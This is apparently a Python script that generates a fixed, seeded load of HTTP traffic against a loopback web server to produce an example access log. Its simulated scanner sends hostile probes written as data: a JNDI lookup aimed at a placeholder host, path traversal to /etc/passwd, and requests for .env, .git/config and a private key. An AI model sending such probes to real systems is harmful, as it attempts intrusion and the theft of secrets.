"""The load behind examples/access.log.gz: plays one fixed plan against a web server on the loopback.

usage: access-log-load.py PORT [--plan]

Everything that is sent is decided before the first byte leaves: a seeded plan of (time, client, connection, bytes),
bounded in number and time. Only the times in the log are the machine's own. Each client binds to its own address in
127.0.0.0/8, so that the server sees as many clients. `--plan` only prints how many log lines the plan must give.

Bursts are sent as HTTP/1.1 pipelines, a few requests in one write: one process can then fill a tenth of a second.
"""

import asyncio
import base64
import random
import sys
import time

SECONDS = 80            # how long the plan lasts
BUSY = ((15, 35), (45, 65))  # bursts happen here; all else is calm
SALE = 45               # the second at which a sale starts and everybody looks
LIMIT = 80_000          # no plan sends more than this

PHONE = "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36"
LAPTOP = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
TABLET = 'Dalvik/2.1.0 (Linux; U; Android 5.0.1; Alba 10" Build/LMY47I)'
KIOSK = "Kiosk/3 (Filiale M\u00fcnchen; C:\\kiosk\\ui.exe)"
TILL = "till-sync/2.4"
CRAWLER = "Mozilla/5.0 (compatible; PoliteBot/1.2; +https://bot.example/)"

PAGES = (
    "/", "/products/", "/products/42", "/cart", "/search?q=caf%C3%A9", '/search?q="tea+pot"',
    "/products/7?ref=mail&x=[1]",
)
ASSETS = ("/assets/app.js", "/assets/style.css", "/img/1.png", "/img/2.png", "/img/3.png", "/favicon.ico")
REFERERS = (
    None, None, "https://shop.example/", "https://search.example/?q=blue+teapot", 'https://blog.example/my-"best"-pots',
)

PROBES = (  # requests as scanners send them: most paths do not exist
    "/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/admin/", "/cgi-bin/luci",
    "/?q=${jndi:ldap://192.0.2.9/a}", "/index.php?s=/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/private/key.pem",
)
GARBAGE = (  # and what is no request at all; each ends its connection
    b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x8fT\x1b\"\\\xd1\r\n\r\n",   # a TLS hello
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n",  # a remote desktop hello
    b"SSH-2.0-Go\r\n\r\n",
    b"\x05\x01\x00\r\n\r\n",                      # SOCKS
    b"GET /\r\n",                                 # HTTP/0.9
    b"GET / HTTP/1.1\r\n\r\n",                    # no Host
    b"get / HTTP/1.1\r\nHost: x\r\n\r\n",         # a method in lower case
    b"OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /a b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /?pad=" + b"A" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",  # a line longer than the server's buffer
)
HANG_UPS = (b"\r\n", b"GET /sitemap.xml HTTP/1.1\r\nHost: x\r\n")  # the client leaves before a request is whole


def request(path, agent, method="GET", referer=None, user=None, body=None, extra=()):
    """Returns the bytes of one HTTP/1.1 request."""
    lines = [f"{method} {path} HTTP/1.1", "Host: shop.example", *extra]
    if agent:
        lines.append(f"User-Agent: {agent}")
    if referer:
        lines.append(f"Referer: {referer}")
    if user:
        word = "wrong" if user == "mallory" else "tea"
        lines.append("Authorization: Basic " + base64.b64encode(f"{user}:{word}".encode()).decode())
    if body is not None:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", body or ""]).encode()


class Plan:
    """What every client sends, and when (in seconds from the start, which is a full second of the wall clock)."""

    def __init__(self, seed=1):
        self.dice = random.Random(seed)
        self.events = []  # (time, host, connection, bytes, hang up after this many seconds or None)
        self.lines = 0    # log lines the server must write

    def send(self, at, host, connection, requests, hang_up=None):
        self.events.append((at, f"127.0.0.{host}", connection, b"".join(requests), hang_up))
        self.lines += len(requests)
        if self.lines > LIMIT or at > SECONDS:
            raise ValueError(f"the plan grows beyond {LIMIT} requests or {SECONDS} s")

    def burst(self, start, end, host, count, make, connections=6):
        """Sends `count` requests at random times in [start, end), up to ten in one write."""
        while count > 0:
            n = min(count, self.dice.randint(3, 10))
            at = self.dice.uniform(start, end)
            self.send(at, host, self.dice.randrange(connections), [make() for _ in range(n)])
            count -= n

    def person(self, host, agent, user=None):
        """Looks at a page, loads what belongs to it, reads for a while."""
        dice, at = self.dice, self.dice.uniform(0, 3)
        fresh = ("If-Modified-Since: Mon, 01 Jan 2024 00:00:00 GMT",)
        while at < SECONDS - 4:
            page = dice.choice(PAGES)
            self.send(at, host, 0, [request(page, agent, referer=dice.choice(REFERERS))])
            for path in dice.sample(ASSETS, dice.randint(2, 6)):
                seen = fresh if dice.random() < 0.5 else ()
                asked = request(path, agent, referer="https://shop.example" + page, extra=seen)
                self.send(at + dice.uniform(0.02, 0.3), host, dice.randint(0, 3), [asked])
            if user and dice.random() < 0.5:
                self.send(at + 0.4, host, 0, [request("/account/", agent, user=user)])
            if dice.random() < 0.1:
                self.send(at + 0.5, host, 0, [request("/cart", agent, "POST", body="sku=42&n=1")])
            if dice.random() < 0.1:  # a slow answer: its line is written long after it began; some do not wait for it
                patience = dice.choice((None, None, 0.7))
                slow = request("/downloads/catalogue.pdf", agent, extra=("Connection: close",))
                self.send(at + 0.6, host, f"slow {at}", [slow], patience)
            at += dice.expovariate(1 / 0.9) + 0.1
        self.burst(SALE - 0.1, SALE + 0.1, host, 20, lambda: request("/sale", agent), connections=4)

    def steady(self, host, start, end, per_second, make):
        """Sends one request after another, evenly."""
        for i in range(int((end - start) * per_second)):
            self.send(start + (i + self.dice.random() * 0.5) / per_second, host, 0, [make(i)])

    def till(self, host, number):
        """Syncs around a full second, a full batch on either side of it: a fixed window lets both through."""
        for second in busy_seconds(2):
            if self.dice.random() < 0.9:
                for start, end in ((second - 0.1, second - 0.005), (second + 0.003, second + 0.1)):
                    self.burst(start, end, host, self.dice.randint(92, 112), lambda: stock(self.dice, f"till-{number}"))

    def retrier(self, host):
        """Sends a batch just before a full second, and all of it again half a second after."""
        for second in busy_seconds(2):
            for start in (second + 0.9, second + 1.5):
                self.burst(start, start + 0.09, host, self.dice.randint(95, 105), lambda: stock(self.dice, None))

    def metronome(self, host):
        """Sends a full batch every 1.03 s: each comes just after the last one has left the window."""
        for start, end in BUSY:
            for i in range(int((end - start) / 1.03)):
                at = start + i * 1.03
                for n in range(10):
                    self.send(at + n * 0.002, host, n % 2, [stock(self.dice, "metronome") for _ in range(10)])

    def scanner(self, host):
        """Probes, slowly; now and then it speaks another protocol."""
        dice, at, i = self.dice, 1.0, 0
        while at < SECONDS - 2:
            if i % 3 == 2:
                self.send(at, host, f"garbage {i}", [GARBAGE[i // 3 % len(GARBAGE)]])
            elif i % 10 == 1:
                self.send(at, host, f"garbage {i}", [HANG_UPS[i // 10 % 2]], 0.2)
            elif i % 20 == 10:
                self.send(at, host, f"probe {i}", [request("/account/", "", user="mallory")])
            else:
                method = dice.choice(("GET", "GET", "HEAD", "POST"))
                self.send(at, host, f"probe {i}", [request(dice.choice(PROBES), "", method)])
            at, i = at + dice.uniform(0.1, 0.6), i + 1

    def abuser(self, host):
        """Hammers one expensive path, whatever the answer."""
        at, i = 20.0, 0
        while at < 70.0:
            searches = (f"/search?q={self.dice.randrange(10**6)}" for _ in range(self.dice.randint(1, 6)))
            self.send(at, host, i % 4, [request(search, "python-requests/2.31.0") for search in searches])
            at, i = at + self.dice.expovariate(130), i + 1


def busy_seconds(step):
    return (second for start, end in BUSY for second in range(start + 1, end, step))


def stock(dice, user):
    return request(f"/api/stock?sku={dice.randrange(1000)}", TILL, user=user)


def make_plan():
    plan = Plan()
    plan.person(2, PHONE)
    plan.person(3, LAPTOP, "anna")
    plan.person(4, TABLET)
    plan.person(5, LAPTOP, "john doe")
    plan.person(6, KIOSK)
    plan.person(7, PHONE, "bob")
    plan.steady(8, 0, SECONDS, 4, lambda _: request("/health", "monitor/1.0", "HEAD", user="monitor"))
    plan.steady(9, 0, SECONDS, 30, lambda i: request(f"/products/{i}", CRAWLER))
    plan.steady(10, 8, 72, 94, lambda i: request("/api/import", "job/1", "POST", user="import", body=f'{{"row":{i}}}'))
    for number in (1, 2, 3, 4):
        plan.till(10 + number, number)
    plan.retrier(21)
    plan.retrier(22)
    plan.metronome(23)
    plan.scanner(31)
    plan.abuser(66)
    plan.events.sort(key=lambda event: event[0])
    return plan


class Drain(asyncio.Protocol):
    """Reads and forgets every answer."""

    def connection_made(self, transport):
        self.transport = transport


async def play(plan, port):
    loop, open_connections, latest = asyncio.get_running_loop(), {}, 0.0
    wall = int(time.time()) + 2  # start at a full second
    zero = loop.time() + (wall - time.time())
    for at, host, name, data, hang_up in plan.events:
        wait = zero + at - loop.time()
        latest = max(latest, -wait)
        if wait > 0:
            await asyncio.sleep(wait)
        connection = open_connections.get((host, name))
        if connection is None:
            _, connection = await loop.create_connection(Drain, "127.0.0.1", port, local_addr=(host, 0))
            open_connections[host, name] = connection
        if connection.transport.is_closing():
            sys.exit(f"{host}: the server closed connection {name}")
        connection.transport.write(data)
        if hang_up is not None:
            loop.call_later(hang_up, connection.transport.abort)
    await asyncio.sleep(3)  # the last slow answers
    for connection in open_connections.values():
        connection.transport.close()
    print(f"sent {plan.lines} requests on {len(open_connections)} connections, at most {latest * 1000:.0f} ms late")


def main():
    if sys.argv[2:] == ["--plan"]:
        print(make_plan().lines)
    elif len(sys.argv) == 2 and sys.argv[1].isdigit():
        asyncio.run(play(make_plan(), int(sys.argv[1])))
    else:
        sys.exit(__doc__)


main()
